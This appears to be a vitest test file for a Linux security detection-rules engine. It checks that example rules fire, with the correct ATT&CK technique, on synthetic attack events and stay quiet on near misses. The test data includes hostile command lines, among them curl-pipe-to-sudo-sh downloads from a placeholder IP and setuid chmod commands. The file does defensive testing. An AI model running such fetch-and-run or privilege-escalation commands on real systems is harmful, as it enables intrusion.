/** Each file of examples/rules: fires for its scenario with the right technique, and not for a near miss. */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { techniquesOfRules } from '../../../lib/attack/index.js';
import { checkConfig, compile, loadConfig, type RuleEvent } from '../../../lib/config/index.js';

const dir = new URL('../../../examples/rules/', import.meta.url);
const event = (type: string, data: object, process: object = {}): RuleEvent => ({
  type,
  data: { ...data },
  process,
  extra: {},
});
const exec = (Image: string, CommandLine: string, process: object = {}, more: object = {}): RuleEvent =>
  event(
    'ProcessCreate',
    { Image, CommandLine, CurrentDirectory: '/home/ann', User: 'ann', ...more },
    { uid: 1000, euid: 1000, ...process },
  );
const connect = (Image: string, DestinationIp: string, Initiated = true, process: object = {}): RuleEvent =>
  event('NetworkConnect', { Image, DestinationIp, DestinationPort: 443, Initiated }, process);
const file = (type: string, Image: string, TargetFilename: string): RuleEvent => event(type, { Image, TargetFilename });
const raw = (Image: string, Family: string, operation: string): RuleEvent => ({
  ...event('RawSocket', { Image, Family, Type: 'SOCK_RAW', Protocol: 'ETH_P_ALL' }),
  extra: { operation },
});
const sent = (Signal: string, reason: string, Image = '/usr/bin/bash'): RuleEvent => ({
  ...event('Signal', { Image, Signal, TargetImage: '/usr/sbin/auditd' }),
  extra: { reason },
});
const listen = (Image: string, Address: string, process: object = {}): RuleEvent =>
  event('SocketListen', { Image, Address, Protocol: 'tcp', Port: 4444 }, process);
const mounts = (
  Image: string,
  Source: string,
  FileSystem: string,
  Operation = 'mount',
  path = '/kubepods.slice/kubepods-pod1.slice',
): RuleEvent => event('Mount', { Image, Source, FileSystem, Operation, Target: '/mnt' }, { cgroup: { path } });
const by = (image: string): object => ({
  parent: { image: '/usr/bin/bash', parent: { image, parent: { image: '/usr/lib/systemd/systemd' } } },
});

const scenarios: Record<string, { fires: [string, RuleEvent][]; quiet: RuleEvent[] }> = {
  'download-and-run.yml': {
    fires: [
      ['T1105', exec('/usr/bin/curl', 'curl -so /tmp/x http://198.51.100.7/x')],
      ['T1105', exec('/usr/bin/wget', 'wget http://198.51.100.7/x', {}, { CurrentDirectory: '/tmp' })],
      ['T1059.004', exec('/usr/bin/bash', 'bash -c curl -s http://198.51.100.7/i.sh | sudo sh')],
      ['T1204.002', exec('/tmp/x', '/tmp/x')],
      ['T1105', file('FileCreate', '/usr/bin/curl', '/tmp/x')],
    ],
    quiet: [
      exec('/usr/bin/curl', 'curl https://example.com/health'),
      exec('/usr/bin/cp', 'cp /tmp/x /home/ann'),
      exec('/usr/bin/bash', 'bash -c curl -s http://x | sha256sum'),
      file('FileCreate', '/usr/bin/gcc', '/tmp/cc1.o'),
      file('FileCreate', '/usr/bin/curl', '/home/ann/x'),
    ],
  },
  'c2-connection.yml': {
    fires: [
      ['T1071', connect('/usr/bin/bash', '203.0.113.9')],
      ['T1071', connect('/tmp/x', '2001:db8:0:0:0:0:0:1')],
      ['T1071', connect('/usr/bin/x', '203.0.113.9', true, { memfd: true })],
    ],
    quiet: [
      connect('/usr/bin/bash', '10.1.2.3'),
      connect('/usr/bin/bash', '0:0:0:0:0:0:0:1'),
      connect('/usr/bin/bash', '203.0.113.9', false),
      connect('/usr/bin/curl', '203.0.113.9'),
    ],
  },
  'ssh-lateral-movement.yml': {
    fires: [
      ['T1021.004', exec('/usr/bin/ssh', 'ssh db1', by('/usr/sbin/sshd'))],
      ['T1021.004', exec('/usr/bin/scp', 'scp x db1:', by('/usr/lib/openssh/sshd-session'))],
      [
        'T1563.001',
        exec('/usr/bin/ssh', 'ssh db1', { env: { SSH_AUTH_SOCK: '/tmp/ssh-x/agent.1' } }, { User: 'root' }),
      ],
    ],
    quiet: [
      exec('/usr/bin/ssh', 'ssh db1', by('/usr/bin/gnome-terminal')),
      exec('/usr/bin/ls', 'ls', by('/usr/sbin/sshd')),
      exec('/usr/lib/openssh/sftp-server', 'sftp-server', by('/usr/sbin/sshd')),
      exec('/usr/bin/ssh', 'ssh db1', { env: { SSH_AUTH_SOCK: '/tmp/ssh-x/agent.1' } }),
    ],
  },
  'docker-socket.yml': {
    fires: [
      ['T1611', event('UnixConnect', { Image: '/usr/bin/curl', SocketName: '/run/docker.sock' })],
      ['T1611', event('UnixConnect', { Image: '/tmp/docker', SocketName: '/run/containerd/containerd.sock' })],
      ['T1611', event('UnixConnect', { Image: '/usr/bin/nc', SocketName: '@/containerd-shim/moby/x/shim.sock' })],
    ],
    quiet: [
      event('UnixConnect', { Image: '/usr/bin/docker', SocketName: '/run/docker.sock' }),
      event('UnixConnect', {
        Image: '/usr/bin/containerd-shim-runc-v2',
        SocketName: '/run/containerd/containerd.sock',
      }),
      event('UnixConnect', { Image: '/usr/bin/curl', SocketName: '/run/dbus/system_bus_socket' }),
    ],
  },
  'raw-socket.yml': {
    fires: [
      ['T1040', raw('/usr/bin/python3.11', 'AF_PACKET', 'socket')],
      ['T1040', raw('/usr/bin/tcpdump', 'AF_PACKET', 'socket')],
      ['T1205.002', raw('/dev/shm/x', 'AF_PACKET', 'SO_ATTACH_FILTER')],
    ],
    quiet: [
      raw('/usr/sbin/dhclient', 'AF_PACKET', 'socket'),
      raw('/usr/sbin/dhclient', 'AF_PACKET', 'SO_ATTACH_FILTER'),
      raw('/usr/bin/ping', 'AF_INET', 'socket'),
      raw('/opt/x', 'AF_NETLINK', 'SO_ATTACH_FILTER'),
    ],
  },
  'sensor-signal.yml': {
    fires: [
      ['T1562.001', sent('SIGSTOP', 'sensor')],
      ['T1562.001', sent('SIGKILL', 'security')],
      ['T1489', sent('SIGKILL', 'many')],
    ],
    quiet: [
      sent('SIGHUP', 'security'),
      sent('SIGKILL', 'otherUser'),
      sent('SIGTERM', 'security', '/usr/lib/systemd/systemd'),
    ],
  },
  'unusual-listener.yml': {
    fires: [
      ['T1571', listen('/usr/bin/ncat', '0.0.0.0')],
      ['T1571', listen('/tmp/x', '0:0:0:0:0:0:0:0')],
      ['T1571', listen('/usr/bin/python3.11', '0.0.0.0', { argv: ['python3', '-c', 'x'] })],
      ['T1571', listen('/memfd:x', '192.0.2.1', { memfd: true })],
    ],
    quiet: [
      listen('/usr/bin/ncat', '127.0.0.1'),
      listen('/usr/sbin/nginx', '0.0.0.0'),
      listen('/usr/bin/python3.11', '0.0.0.0', { argv: ['python3', 'server.py'] }),
    ],
  },
  'mount-escape.yml': {
    fires: [
      ['T1611', mounts('/usr/bin/mount', '/dev/sda1', 'ext4')],
      ['T1611', mounts('/usr/bin/mount', 'x', 'cgroup')],
      ['T1611', mounts('/tmp/x', '.', '-', 'pivot_root')],
    ],
    quiet: [
      mounts('/usr/bin/mount', 'tmpfs', 'tmpfs'),
      mounts('/usr/sbin/runc', '/dev/pts', 'bind', 'bind'),
      mounts('/usr/bin/mount', '/dev/sda1', 'ext4', 'mount', '/user.slice/user-0.slice/session-1.scope'),
    ],
  },
  'fileless.yml': {
    fires: [
      ['T1620', exec('/memfd:x', 'x', { memfd: true })],
      ['T1620', exec('/home/ann/x', 'x', { deleted: true })],
      ['T1027.011', exec('/dev/shm/x', 'x')],
    ],
    quiet: [exec('/usr/bin/python3', 'python3 -c os.memfd_create("x")'), exec('/usr/bin/ls', 'ls /dev/shm/')],
  },
  'module-load.yml': {
    fires: [
      ['T1547.006', event('ModuleLoad', { ImageLoaded: '/tmp/dummy.ko' })],
      ['T1547.006', exec('/usr/bin/kmod', 'insmod /tmp/dummy.ko')],
    ],
    quiet: [
      event('ModuleLoad', { ImageLoaded: '/usr/lib/modules/6.1.0/kernel/drivers/net/dummy.ko' }),
      event('ModuleLoad', { ImageLoaded: '/lib/modules/6.1.0/kernel/drivers/net/dummy.ko' }),
      exec('/usr/bin/kmod', 'modprobe dummy'),
    ],
  },
  'passwd-tampering.yml': {
    fires: [
      ['T1098', file('FileModify', '/usr/bin/bash', '/etc/passwd')],
      ['T1098', file('FileCreate', '/usr/bin/sed', '/etc/shadow')],
      ['T1548.003', file('FileCreate', '/usr/bin/tee', '/etc/sudoers.d/x')],
    ],
    quiet: [
      file('FileModify', '/usr/sbin/useradd', '/etc/passwd'),
      file('FileModify', '/usr/bin/bash', '/etc/passwd-'),
      file('FileModify', '/usr/bin/bash', '/srv/etc/passwd'),
      file('FileCreate', '/usr/sbin/visudo', '/etc/sudoers'),
    ],
  },
  'privilege-escalation.yml': {
    fires: [
      ['T1548.003', exec('/usr/bin/sudo', 'sudo -n true', { euid: 0 })],
      ['T1548.001', exec('/usr/bin/chmod', 'chmod u+s /tmp/id')],
      ['T1548.001', exec('/usr/bin/chmod', 'chmod 4755 /tmp/id')],
      ['T1548.001', exec('/tmp/id', '/tmp/id', { euid: 0 })],
      ['T1068', event('PrivilegeChange', { Image: '/tmp/x', User: 'root', PreviousUser: 'ann' })],
      ['T1068', event('PrivilegeChange', { Image: '/bin/su', Operation: 'unexplained' })],
    ],
    quiet: [
      exec('/usr/bin/chmod', 'chmod u+x /tmp/id'),
      exec('/usr/bin/chmod', 'chmod 0755 /tmp/id'),
      exec('/tmp/id', '/tmp/id'),
      exec('/usr/bin/passwd', 'passwd', { euid: 0 }),
      exec('/tmp/id', '/tmp/id', { uid: 0, euid: 0 }),
      event('PrivilegeChange', { Image: '/usr/bin/su', User: 'root', PreviousUser: 'ann' }),
      event('PrivilegeChange', { Image: '/tmp/x', User: 'ann', PreviousUser: 'root', Operation: 'setuid' }),
    ],
  },
};

it('has a scenario for each file', () => {
  expect(
    readdirSync(dir)
      .filter((f) => f.endsWith('.yml'))
      .sort(),
  ).toEqual(Object.keys(scenarios).sort());
});

describe.each(Object.entries(scenarios))('%s', (name, { fires, quiet }) => {
  const path = new URL(name, dir);
  const rules = compile(loadConfig(path.pathname));

  it('is clean', () => {
    expect(checkConfig(readFileSync(path)).map((d) => `${d.code}: ${d.message}`)).toEqual([]);
  });

  it.each(fires)('fires with %s', (id, e) => {
    const { verdict, rules: names, ruleName } = rules.evaluate(e);
    expect([verdict, techniquesOfRules([ruleName])[0]?.id, techniquesOfRules(names).some((t) => t.id === id)]).toEqual([
      'log',
      id,
      true,
    ]);
  });

  it.each(quiet)('does not fire for a near miss: %j', (e) =>
    expect(rules.evaluate(e)).toMatchObject({ verdict: 'drop', rules: [] }),
  );
});

it('the starter configuration fires for modules and eBPF, and not for near misses', () => {
  const rules = compile(loadConfig('starter'));
  const load = (ImageLoaded: string, extra: object = {}): RuleEvent => ({
    ...event('ModuleLoad', { ImageLoaded }),
    extra,
  });
  const bpf = (Image: string, BpfCommand: string, BpfProgramType: string, extra: object = {}): RuleEvent => ({
    ...event('eBPFEvent', { Image, BpfCommand, BpfProgramType }),
    extra,
  });
  const fires: [string, RuleEvent][] = [
    ['T1547.006', load('/tmp/rootkit.ko')],
    ['T1547.006', load('-', { module: { name: 'rootkit' } })],
    ['T1014', bpf('/tmp/x', 'BPF_PROG_LOAD', 'KPROBE')],
    ['T1014', bpf('/usr/bin/python3', 'BPF_PROG_LOAD', 'TRACING')],
    ['T1562.001', bpf('/usr/sbin/bpftool', 'BPF_LINK_DETACH', 'CGROUP_SKB', { own: true, errno: 95 })],
  ];
  for (const [id, e] of fires) expect(rules.evaluate(e).ruleName).toContain(id);
  const quiet = [
    load('/lib/modules/6.12.0/kernel/drivers/net/dummy.ko'),
    load('-', { requested: true }),
    bpf('/usr/lib/systemd/systemd', 'BPF_PROG_LOAD', 'LSM'),
    bpf('/usr/bin/x', 'BPF_PROG_LOAD', 'SOCKET_FILTER'),
    bpf('/usr/bin/x', 'BPF_PROG_LOAD', 'KPROBE', { existing: true }),
    bpf('/usr/bin/x', 'BPF_LINK_DETACH', 'CGROUP_SKB'),
  ];
  for (const e of quiet) expect(rules.evaluate(e), JSON.stringify(e)).toMatchObject({ verdict: 'drop' });
});

it('the starter configuration is clean and quiet on an ordinary day', () => {
  expect(checkConfig(readFileSync(new URL('../../../lib/config/starter.yml', import.meta.url)))).toEqual([]);
  const rules = compile(loadConfig('starter'));
  const data = JSON.parse(readFileSync(new URL('../../bench/exec-events.json', import.meta.url), 'utf8')) as Record<
    string,
    string
  >[];
  const logged = rules
    .evaluateAll(data.map((d) => ({ type: 'ProcessCreate', data: d })))
    .filter((v) => v.verdict === 'log');
  expect(logged).toEqual([]);
  expect(rules.evaluate(exec('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x | sh'))).toMatchObject({
    verdict: 'log',
  });
  const nsenter = (path: string, target = 77): RuleEvent =>
    exec('/usr/bin/nsenter', `nsenter -t ${target} -m`, { cgroup: { path } });
  const hex = 'c0ffee'.repeat(10);
  for (const path of [
    `/system.slice/docker-${hex}.scope`,
    `/docker/${hex}`,
    `/kubepods.slice/kubepods-pod1.slice/cri-containerd-${hex}.scope`,
  ])
    expect(rules.evaluate(nsenter(path)).ruleName).toContain('T1611');
  for (const path of ['/system.slice/docker.service', '/user.slice/user-0.slice/session-1.scope'])
    expect(rules.evaluate(nsenter(path))).toMatchObject({ verdict: 'drop' });
  expect(rules.evaluate(nsenter('/user.slice', 1)).ruleName).toContain('T1611');
});
